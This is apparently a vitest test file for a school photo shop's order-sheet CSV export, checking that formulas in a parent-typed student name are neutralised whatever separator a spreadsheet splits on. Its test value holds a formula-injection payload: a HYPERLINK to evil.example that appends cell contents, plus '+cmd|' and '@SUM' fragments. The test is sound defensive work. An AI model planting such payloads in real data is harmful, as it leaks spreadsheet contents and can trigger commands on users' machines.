/**
 * The lab's order sheet holds text a parent typed (the student's name). A spreadsheet opened in a
 * semicolon locale splits a cell at each ";", so a formula after one would run there: every piece
 * that starts with = + - @ carries the apostrophe that makes it text (docs/errors.md, "CSV files").
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeApi, staffClient, startTestServer, type Client, type TestServer } from '../../test/harness';
import { createShop, parentFor } from '../../test/shop';
import { readZip } from '../../test/zip';
import { addPhoto, distinctJpeg, paidOrder } from './print-batches.test-helpers';

const HOSTILE = 'Neo Dube; =HYPERLINK("http://evil.example/?x="&A1;"Click"),+cmd|@SUM(1)';

/** Each cell a spreadsheet sees when it splits lines at `separator` (quotes as a naive importer reads them: text). */
const cellsSplitAt = (text: string, separator: string): string[] => text.split(/\r?\n/).flatMap((row) => row.split(separator)).map((cell) => cell.replace(/^[\s"]+/, ''));

describeApi('order sheet: formulas are text whatever the separator', () => {
  let server: TestServer;
  let staff: Client;
  let sheet: string;

  beforeAll(async () => {
    server = await startTestServer();
    staff = await staffClient(server);
    const shop = await createShop(server);
    const photo = await addPhoto(server, shop.openAlbumId, 'IMG_0500.JPG', await distinctJpeg(50));
    const parent = await parentFor(server, shop);
    await paidOrder(server, parent, shop, [{ photoId: photo.id, albumId: shop.openAlbumId, product: shop.print, quantity: 1 }], { studentName: HOSTILE });
    const batch = await staff.post('/api/print-batches', { schoolId: shop.schoolId });
    expect(batch.status).toBe(201);
    const zip = await staff.get(`/api/print-batches/${batch.body.id}/files.zip`);
    expect(zip.status).toBe(200);
    sheet = (await readZip(zip.body as Buffer)).find((entry) => entry.name === 'order-sheet.csv')!.data.toString('utf8');
  });
  afterAll(async () => server.close());

  it('neutralises a formula after a semicolon, a comma, a pipe or a tab, not only at the start of a field', () => {
    expect(sheet).toContain(`Neo Dube; '=HYPERLINK(`);
    for (const separator of [',', ';', '|', '\t']) {
      const live = cellsSplitAt(sheet, separator).filter((cell) => /^[=+@-]/.test(cell));
      expect(live, `cells split at ${JSON.stringify(separator)}`).toEqual([]);
    }
  });
});
